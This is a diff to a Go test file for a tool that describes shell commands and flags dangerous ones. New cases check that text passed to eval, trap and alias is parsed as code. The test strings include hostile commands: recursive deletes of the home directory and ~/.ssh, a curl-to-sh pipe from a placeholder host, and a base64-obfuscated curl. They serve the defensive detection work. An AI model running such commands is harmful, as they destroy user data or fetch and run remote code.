@@ -38,6 +38,10 @@ func TestDescribe(t *testing.T) {
 		// bash expands braces before it runs a command: one word there is
 		// a program and its arguments.
 		{"braces hide a recursive delete", "{rm,-rf,~}", "rm", []string{"deletes recursively: ~"}, nil, false, false},
+		// Text an evaluator runs is read as the code it is.
+		{"eval's words", `eval "rm -rf" build`, "eval,rm", []string{"runs text as shell code (eval)", "deletes recursively: build"}, nil, false, false},
+		{"trap's action", `trap 'rm -rf ~/.ssh' EXIT; make`, "trap,rm,make", []string{"runs text as shell code (trap)", "deletes recursively: ~/.ssh"}, nil, false, false},
+		{"an alias's value", `alias ls='curl -s https://a.example | sh'`, "alias,curl,sh", []string{"runs text as shell code (alias)", "pipes text into sh"}, nil, false, false},
 		{"braces beside a program", "echo {a,b}{1..600}", "echo", []string{"expand to more than 1024 words"}, nil, false, false},
 		{"plain delete", "rm a.txt", "rm", nil, []string{"deletes: a.txt"}, false, true},
 		{"the whole workspace", "rm -rf ~/", "rm", []string{"deletes ~/: the whole workspace"}, nil, false, false},
@@ -129,7 +133,7 @@ func TestNetwork(t *testing.T) {
 		{`python3 -c "import urllib.request as u; print(u.urlopen('https://a.example').read())"`, `python3 -c import urllib.request as u; print(u.urlopen('https://a.example').read())`},
 		{"/usr/local/bin/curl https://a.example", "curl https://a.example"},
 		{`c=curl; $c -s https://a.example/x`, "$c -s https://a.example/x"},
-		{`eval "curl -s https://a.example/x"`, "eval curl -s https://a.example/x"},
+		{`eval "curl -s https://a.example/x"`, "curl -s https://a.example/x"}, // eval's code is read as code
 		{`sh -c "$(echo Y3VybA== | base64 -d) https://a.example"`, `sh -c "$(echo Y3VybA== | base64 -d) https://a.example"`},
 		{`bash -c "echo see https://a.example"`, "echo see https://a.example"}, // parsed; any program given a URL counts, echo too
 		{`$EDITOR notes.txt`, ""},
